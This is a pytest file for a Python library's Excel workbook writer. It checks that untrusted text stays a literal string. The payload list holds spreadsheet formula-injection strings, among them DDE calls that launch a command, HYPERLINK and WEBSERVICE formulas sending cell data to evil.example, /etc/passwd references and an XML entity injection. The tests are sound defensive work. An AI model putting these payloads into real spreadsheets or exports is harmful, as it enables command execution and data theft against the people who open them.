"""Whatever a file holds, it stays a string: no formula, link, reference, number or markup."""

import re
from collections.abc import Iterator
from io import BytesIO
from typing import Any
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import openpyxl
import pytest

from harvestry.reports.table import Column, Row, Table, Unit
from harvestry.reports.workbook import rows as xlsx_rows
from harvestry.reports.workbook.writing import Properties, write_workbook
from harvestry.units.exact import money_of

AS_IS = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "='file:///etc/passwd'#$passwd.A1",
    "=[evil.xlsx]Sheet1!A1",
    "{=1+1}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@@",
    "%0A=1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "http://evil.example/",
    "https://evil.example/?a=1&b=2",
    "ftp://evil.example/",
    "mailto:someone@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "www.evil.example",
    "123",
    "-12.3",
    "1e5",
    "1,234.50",
    "007",
    "0x1F",
    "NaN",
    "inf",
    "TRUE",
    "2026-01-01",
    "1/2",
    "12:30",
    "50%",
    "$5",
    "#REF!",
    "#NAME?",
    "<r><t>bold</t></r>",
    '<r></c><c r="A1"><f>1+1</f></c></r>',
    '</t></is></c><c r="Z9"><f>1+1</f><v>2</v></c>',
    "<script>alert(1)</script>",
    "&lt;b&gt; &amp; &#61;1+1",
    "]]><![CDATA[",
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "[bold red]markup[/]",
    "a & b < c > d \" e ' f",
    "  blanks around  ",
    "🪙 日本 é",
]
CHANGED = {
    "\t=1+1": " =1+1",
    "\r=1+1": " =1+1",
    "\n=1+1": " =1+1",
    "one\ntwo\r\nthree": "one two three",
    "nul\x00 bell\x07 escape\x1b[31m": "nul� bell� escape�[31m",
    "\x01\x02\x0b\x0e\x1f": "�� ��",
    "half \ud800 and \udfff": "half � and �",
    "no character \ufffe\uffff": "no character ��",
    "turned \u202egpj.exe": "turned �gpj.exe",
    "\ufeff=1+1": "�=1+1",
}
PAYLOADS = {**{text: text for text in AS_IS}, **CHANGED}
ESCAPES = ["_x0041_", "_x003D_1+1", "a_x000D_b_x000A_", "_x0041_x003D_x0042_"]

COLUMNS = (
    Column("Account", Unit.TEXT),
    Column("Asset", Unit.TEXT),
    Column("Loss that can be locked in", Unit.GAIN, total=True),
    Column("Quantity", Unit.QUANTITY),
)


@pytest.fixture(scope="module", params=[50_000, 3], ids=["shared strings", "inline strings"])
def written(request: pytest.FixtureRequest) -> Iterator[BytesIO]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(xlsx_rows, "_MOST_SHARED", request.param)
        # A text may stand in a column of numbers too: it is still a string there.
        rows = [(text, text, money_of("-1"), text) for text in PAYLOADS]
        tables = [
            Table("Summary by FIFO", COLUMNS, rows, tuple(PAYLOADS), {0: "=1+1"}, ("account",)),
            *(
                Table(text, (Column(text, Unit.TEXT, text),), [(text,)])
                for text in (*PAYLOADS, *ESCAPES)
            ),
        ]
        file = BytesIO()
        write_workbook(file, tables, Properties("=1+1\x00", 0, "<b>"))
        yield file


def all_cells(file: BytesIO) -> Iterator[Any]:
    for sheet in openpyxl.load_workbook(file).worksheets:
        yield from (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_every_text_column_holds_the_string_itself(written: BytesIO) -> None:
    assert len(PAYLOADS) >= 40
    sheet = openpyxl.load_workbook(written).worksheets[0]
    rows = list(sheet.iter_rows())
    header = next(n for n, row in enumerate(rows) if row[0].value == "Account")
    body = rows[header + 1 : header + 1 + len(PAYLOADS)]
    for row, seen in zip(body, PAYLOADS.values(), strict=True):
        for cell in (row[0], row[1], row[3]):
            assert (cell.value, cell.data_type) == (seen, "s")
        assert (row[2].value, row[2].data_type) == (-1, "n")


def test_nothing_but_our_own_sum_is_a_formula(written: BytesIO) -> None:
    formulas = [cell.value for cell in all_cells(written) if cell.data_type == "f"]
    first = formulas[0].split(":")[0]
    assert formulas == [f"{first}:C{int(first[6:]) + len(PAYLOADS) - 1})"]
    others = {cell.data_type for cell in all_cells(written)}
    assert others == {"s", "n", "f"}


def test_there_is_no_link_and_no_outside_reference(written: BytesIO) -> None:
    assert not [cell for cell in all_cells(written) if cell.hyperlink]
    with ZipFile(written) as parts:
        names = parts.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.casefold()]
        for name in names:
            if name.endswith(".rels"):
                assert b"External" not in parts.read(name), name


def test_every_part_is_well_formed(written: BytesIO) -> None:
    with ZipFile(written) as parts:
        for name in parts.namelist():
            ET.fromstring(parts.read(name))  # noqa: S314 - our own output


def test_a_text_that_is_entered_again_stays_text(written: BytesIO) -> None:
    cells = {cell.value: cell for cell in all_cells(written)}
    for text in ("=1+1", "-12.3", "0x1F", "2026-01-01", "@@", "https://evil.example/?a=1&b=2"):
        assert cells[text].quotePrefix, text


def test_excels_own_escapes_are_taken_literally(written: BytesIO) -> None:
    with ZipFile(written) as parts:
        strings = [parts.read(name) for name in parts.namelist() if "worksheets/sheet" in name]
        texts = b"".join(strings) + parts.read("xl/sharedStrings.xml")
    for escape in ESCAPES:
        escaped = re.sub("_(?=x[0-9A-F]{4}_)", "_x005F_", escape)
        assert f">{escaped}</t>".encode() in texts, escape
        assert f">{escape}</t>".encode() not in texts, escape


@pytest.mark.parametrize("letter", ["x", "🪙", "\n"])
def test_a_text_beyond_excels_limit_is_cut_and_says_so(letter: str) -> None:
    file = BytesIO()
    write_workbook(file, [Table("T", COLUMNS[:1], [(letter * 40_000,)])], Properties("t", 0))
    cell = openpyxl.load_workbook(file).worksheets[0]["A4"]
    assert cell.data_type == "s"
    units = len(cell.value.encode("utf-16-le")) // 2
    assert 32_760 < units <= 32_767
    assert cell.value.endswith("[cut here: 40,000 characters in all]")
    assert not cell.alignment.wrap_text


def test_no_text_makes_columns_or_rows_larger_than_excel_takes() -> None:
    long = "many words " * 3_000
    columns = (Column(long, Unit.TEXT, long), Column("x" * 3_000, Unit.MONEY), COLUMNS[3])
    rows: list[Row] = [(long, long, 10**60), (long[:399], "x" * 399, 1), ("\u65e5" * 399, "", 1)]
    file = BytesIO()
    write_workbook(file, [Table("T", columns, rows, (long,))], Properties("t", 0))
    sheet = openpyxl.load_workbook(file).worksheets[0]
    assert all(each.width <= 255 for each in sheet.column_dimensions.values())
    assert all((each.height or 0) <= 409 for each in sheet.row_dimensions.values())
